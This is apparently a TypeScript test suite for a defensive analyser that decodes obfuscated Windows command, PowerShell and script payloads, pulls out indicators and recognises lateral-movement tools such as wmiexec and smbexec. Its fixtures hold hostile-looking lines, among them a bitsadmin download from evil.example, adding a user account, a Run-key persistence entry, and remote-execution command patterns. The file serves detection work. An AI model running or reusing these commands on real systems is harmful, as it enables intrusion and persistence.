import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { analysePayload, type PayloadKind } from './analyse.ts';
import { creatingCalls } from './creating-calls.ts';
import { unwrapKnownTool } from './known-tool.ts';

/** A command wrapped in `cmd /c`, so many levels deep. */
function nested(levels: number): string {
  let text = 'notepad.exe';
  for (let i = 0; i < levels; i++) text = `cmd /c ${text}`;
  return text;
}

describe('bounds, on both sides', () => {
  test('depth: 12 layers are read, the 13th is counted', () => {
    const twelve = analysePayload(nested(12));
    assert.deepEqual([twelve.layers.length, twelve.stopped], [12, []]);
    const thirteen = analysePayload(nested(13));
    assert.deepEqual([thirteen.layers.length, thirteen.stopped], [12, ['depth limit (12) reached once']]);
  });
  test('layers: 64 are kept, further ones are counted', () => {
    const texts = (count: number): string => Array.from({ length: count }, (_, i) => `'a${i}'+'b'`).join(';');
    assert.deepEqual(
      [analysePayload(texts(64), 'powershell').layers.length, analysePayload(texts(64), 'powershell').stopped],
      [64, []],
    );
    const more = analysePayload(texts(66), 'powershell');
    assert.deepEqual([more.layers.length, more.stopped], [64, ['layer limit (64) reached 2 times']]);
  });
  test('input: 1 MiB is read, what lies behind is cut and counted', () => {
    const fill = ' '.repeat((1 << 20) - 7);
    assert.deepEqual(analysePayload(`whoami ${fill}`, 'command').stopped, []);
    assert.deepEqual(analysePayload(`whoami ${fill}x`, 'command').stopped, ['input cut (1048576) reached once']);
  });
  test('output: layers stop at the total', () => {
    const text = `cmd /c ${'a'.repeat(100)}`;
    assert.deepEqual(analysePayload(text, 'auto', { outputChars: 100 }).layers.length, 1);
    const cut = analysePayload(text, 'auto', { outputChars: 99 });
    assert.deepEqual([cut.layers.length, cut.stopped], [0, ['output limit (99) reached once']]);
  });
  test('steps: the work is counted, not the time', () => {
    const text = "'a'+'b';".repeat(1000);
    assert.deepEqual(analysePayload(text, 'powershell').stopped, []);
    assert.deepEqual(analysePayload(text, 'powershell', { steps: 5000 }).stopped, ['step limit (5000) reached once']);
  });
  test('base64: runs of 16 letters are read, shorter ones are not', () => {
    const run = Buffer.from('a b c: d e f').toString('base64');
    assert.equal(run.length, 16);
    assert.equal(analysePayload(`x = "${run}"`, 'vbscript').layers.length, 1);
    assert.equal(analysePayload(`x = "${run}"`, 'vbscript', { base64Chars: 17 }).layers.length, 0);
  });
  test('decompression: 200 to 1 is inflated, a bomb is not', () => {
    const packed = (size: number): string => {
      const text = Buffer.alloc(size, 'a plain text of many words. ');
      return `x = "${gzipSync(text).toString('base64')}"`;
    };
    assert.equal(analysePayload(packed(4000), 'vbscript').layers.at(-1)?.operation, 'gzip');
    const bomb = analysePayload(packed(4 << 20), 'vbscript');
    assert.deepEqual([bomb.layers.length, bomb.stopped], [1, ['decompression limit (8388608) reached once']]);
  });
  test('nesting: brackets without end are left', () => {
    assert.deepEqual(analysePayload(`${'('.repeat(60)}'a'+'b'${')'.repeat(60)}`, 'powershell').stopped.length, 1);
    assert.deepEqual(analysePayload(`${'('.repeat(20)}'a'+'b'${')'.repeat(20)}`, 'powershell').layers[0]?.text, 'ab');
  });
});

describe('hostile input ends soon', () => {
  const size = 30_000;
  const hostile: readonly (readonly [string, string])[] = [
    ['open brackets', '('.repeat(size)],
    ['open strings', `"$(`.repeat(size / 3)],
    ['quotes', '"'.repeat(size)],
    ['backslashes', `\\`.repeat(size)],
    ['carets', '^'.repeat(size)],
    ['percent signs', '%a'.repeat(size / 2)],
    ['self-feeding variables', `set a=%a%%a%&& set a=%a%%a%&& ${'call %a%%a%&& '.repeat(5000)}`],
    ['growing text', `$a='x'*60000;${'$a=$a+$a;'.repeat(200)}iex $a`],
    ['a range', '-join((1..9999999)|%{[char]$_})'],
    ['nested ranges', `${'(1..9999)|%{'.repeat(20)}[char]65`],
    ['dots', '.'.repeat(size)],
    ['digits', '1.'.repeat(size / 2)],
    ['letters', 'a'.repeat(size)],
    ['links', 'http://'.repeat(size / 7)],
    ['paths', 'C:\\a '.repeat(size / 5)],
    ['words of powershell', 'powershell -enc '.repeat(size / 16)],
    ['commas', '0x1,'.repeat(size / 4)],
    ['encoded marks', '#@~^AAAAAA=='.repeat(size / 12)],
    ['net user', 'net user '.repeat(size / 9)],
    ['wmiclass', '[wmiclass]'.repeat(size / 10)],
    ['comments', '<#'.repeat(size / 2)],
    ['functions', 'function a { a };a;'.repeat(size / 19)],
    ['blanks', ' '.repeat(size)],
    ['joined pieces', "'a'+".repeat(size / 4)],
    ['members', '$a' + '.b'.repeat(size / 2)],
  ];
  for (const [name, text] of hostile) {
    test(name, () => {
      for (const kind of ['auto', 'command', 'powershell', 'vbscript', 'jscript'] as readonly PayloadKind[]) {
        const started = process.cpuUsage();
        analysePayload(text, kind);
        const spent = process.cpuUsage(started);
        assert.ok(spent.user + spent.system < 5_000_000, `${kind}: ${(spent.user + spent.system) / 1000} ms of CPU`);
      }
      const started = process.cpuUsage();
      creatingCalls(`__EventFilter ${text}`);
      const spent = process.cpuUsage(started);
      assert.ok(spent.user + spent.system < 5_000_000, `calls: ${(spent.user + spent.system) / 1000} ms of CPU`);
    });
  }
  test('no text makes it throw, and the answer is the same twice', () => {
    const piece = fc.constantFrom(
      ...[
        "'a'",
        '"b"',
        '+',
        '-f',
        '-join',
        '(',
        ')',
        '[',
        ']',
        '{',
        '}',
        '$a',
        '=',
        ';',
        ',',
        '|',
        '&',
        '.',
        '::',
        '@{',
        '@(',
      ],
      ...[
        'iex',
        'Execute ',
        'eval(',
        'Chr(65)',
        '[char]',
        '%x:~1,2%',
        'cmd /c ',
        'powershell -e ',
        '`',
        '^',
        '\n',
        '__proto__',
        '..',
        '1',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), fc.string({ maxLength: 20 }), (pieces, tail) => {
        const text = pieces.join('') + tail;
        assert.deepEqual(analysePayload(text), analysePayload(text));
        creatingCalls(`Set-WmiInstance __EventFilter ${text}`);
      }),
      { numRuns: 500 },
    );
  });
});

describe('indicators', () => {
  test('each kind is taken out once and sorted', () => {
    const text = [
      'bitsadmin /transfer j http://evil.example/a.exe C:\\Users\\Public\\a.exe & net user bob Passw0rd /add',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x',
      'copy \\\\srv01\\tools\\x.exe & echo 10.9.8.7:4444 & echo \\\\.\\pipe\\msagent_1',
      'CreateObject("WScript.Shell") Mutex("Global\\one") Win32_Process root\\cimv2 "Mozilla/5.0 (X)"',
      'GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")',
    ].join('\n');
    assert.deepEqual(
      analysePayload(text, 'command').indicators.map((item) => `${item.kind} ${item.value}`),
      [
        'account bob',
        'clsid 9BA05972-F6A8-11CF-A442-00A0C90A8F39',
        'domain evil.example',
        'ip 10.9.8.7:4444',
        'mutex Global\\one',
        'path C:\\Users\\Public\\a.exe',
        'pipe msagent_1',
        'progId WScript.Shell',
        'registry HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        'unc \\\\srv01\\tools\\x.exe',
        'url http://evil.example/a.exe',
        'userAgent Mozilla/5.0 (X)',
        'wmiClass Win32_Process',
        'wmiClass root\\cimv2',
      ],
    );
  });
  test('a link that was cut in pieces is whole again', () =>
    assert.deepEqual(
      analysePayload("$u='ht'+'tp://evil.exa'+'mple/x'", 'powershell').indicators.filter((item) => item.kind === 'url'),
      [{ kind: 'url', value: 'http://evil.example/x' }],
    ));
  test('defanged links are read as links', () =>
    assert.deepEqual(
      analysePayload('curl hxxp://evil[.]example/x').indicators.map((item) => item.value),
      ['evil.example', 'http://evil.example/x'],
    ));
});

describe('known tools', () => {
  test('wmiexec', () =>
    assert.deepEqual(unwrapKnownTool('cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1'), {
      tool: 'wmiexec',
      command: 'whoami /all',
      offset: 14,
    }));
  test('a short time is dcomexec or a newer wmiexec', () =>
    assert.deepEqual(unwrapKnownTool('cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__17121 2>&1'), {
      tool: 'dcomexec or wmiexec',
      command: 'cd \\',
      offset: 14,
    }));
  test('NetExec', () =>
    assert.deepEqual(
      unwrapKnownTool(
        'cmd.exe /Q /c  hostname 1> C:\\windows\\temp\\0f8fad5b-d9cb-469f-a165-70867728950e.txt 2>&1 && certutil -encodehex -f C:\\windows\\temp\\0f8fad5b-d9cb-469f-a165-70867728950e.txt',
      )?.command,
      'hostname',
    ));
  test('smbexec', () =>
    assert.deepEqual(
      unwrapKnownTool(
        '%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat',
      ),
      { tool: 'smbexec', command: 'cd', offset: 21 },
    ));
  test('an ordinary redirection is no tool', () => {
    assert.equal(unwrapKnownTool('cmd.exe /Q /c whoami > c:\\x.txt'), undefined);
    assert.equal(unwrapKnownTool('cmd.exe /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1'), undefined);
  });
});
